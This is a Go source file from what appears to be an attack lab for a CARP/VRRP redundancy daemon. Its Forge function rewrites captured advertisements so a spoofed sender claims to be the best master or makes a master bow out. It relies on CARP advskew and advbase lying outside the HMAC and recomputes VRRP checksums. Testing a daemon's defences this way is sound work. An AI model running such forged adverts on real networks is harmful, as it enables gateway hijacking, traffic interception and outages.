package lab

import (
	"fmt"
	"net/netip"
	"time"

	"github.com/carpd/carpd/carp"
)

// Advert is one protocol 112 packet an Attacker captured from the segment.
type Advert struct {
	// Src and Dst are the IP addresses it travelled with.
	Src, Dst netip.Addr
	// TTL is the IP TTL it arrived with.
	TTL int
	// Payload is the whole CARP or VRRP message, without the IP header.
	Payload []byte
	// At is when the attacker read it.
	At time.Time
}

// Change is how Forge rewrites a captured advertisement.
type Change uint8

const (
	// Unchanged keeps the message as captured (a VRRPv3 checksum with a
	// pseudo-header is still recomputed for the new source, or no receiver
	// would look further).
	Unchanged Change = iota
	// Best makes the sender look like the best master: CARP advskew 0
	// and advbase at most 1 (neither is covered by the HMAC, OpenBSD
	// ip_carp.c carp_hmac_prepare), VRRP priority 254 (the best a
	// non-owner may send, RFC 5798 §5.2.4).
	Best
	// BowOut makes it a master's farewell: CARP advbase 255 and advskew
	// 255 (OpenBSD ip_carp.c carp_input, ucarp src/carp.c), VRRP priority
	// 0 (RFC 3768 §6.4.3, RFC 5798 §6.4.3).
	BowOut
)

// String names the change as the attack tables do.
func (c Change) String() string {
	switch c {
	case Unchanged:
		return "replay"
	case Best:
		return "best"
	case BowOut:
		return "bow-out"
	}
	return fmt.Sprintf("Change(%d)", uint8(c))
}

// IsCARP reports whether p is a CARP advertisement rather than VRRP: both
// start with 0x21, but CARP is 36 bytes with authlen 7 in byte 3, where
// VRRPv2 has its address count, which would need 44 bytes.
func IsCARP(p []byte) bool {
	return len(p) == carp.HeaderLen && p[0] == 0x21 && p[3] == 7
}

// Forge returns a's message rewritten by c as it must be sent from src:
// the field changed and the checksum made valid again in the variant a
// arrived with (CARP and VRRPv2: the message alone; VRRPv3 over IPv4:
// with or without the pseudo-header, which then carries src). Everything
// else, the CARP HMAC and counter and the VRRPv2 password included, is
// kept byte for byte. It fails when a's message does not decode.
func Forge(a Advert, src netip.Addr, c Change) ([]byte, error) {
	if IsCARP(a.Payload) {
		var h carp.Header
		if err := h.UnmarshalBinary(a.Payload); err != nil {
			return nil, fmt.Errorf("decoding captured CARP advert: %w", err)
		}
		switch c {
		case Best:
			h.AdvSkew = 0
			h.AdvBase = min(h.AdvBase, 1)
		case BowOut:
			h.AdvSkew, h.AdvBase = 255, 255
		}
		return h.AppendBinary(nil)
	}
	var v carp.VRRP
	v.Src, v.Dst = a.Src, a.Dst
	if err := v.UnmarshalBinary(a.Payload); err != nil {
		return nil, fmt.Errorf("decoding captured VRRP advert: %w", err)
	}
	switch c {
	case Best:
		v.Priority = 254
	case BowOut:
		v.Priority = 0
	}
	v.Src = src
	b, err := v.AppendBinary(nil)
	if err != nil {
		return nil, fmt.Errorf("encoding forged VRRP advert: %w", err)
	}
	return b, nil
}
